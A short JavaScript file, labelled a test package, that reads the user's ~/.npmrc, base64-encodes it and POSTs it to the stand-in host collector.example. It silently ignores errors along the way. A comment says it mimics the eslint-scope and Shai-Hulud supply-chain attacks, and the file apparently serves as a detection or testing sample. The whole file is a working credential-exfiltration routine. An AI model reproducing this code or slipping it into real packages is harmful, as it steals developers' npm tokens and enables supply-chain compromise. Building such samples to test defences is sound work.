// Test package: posts ~/.npmrc base64-encoded over HTTPS (the eslint-scope / Shai-Hulud move).
const fs = require('fs'), os = require('os'), https = require('https');
const data = Buffer.from(fs.readFileSync(os.homedir() + '/.npmrc')).toString('base64');
const req = https.request({ host: 'collector.example', path: '/upload', method: 'POST' }, (r) => r.resume());
req.on('error', () => {});
req.end(JSON.stringify({ d: data }));
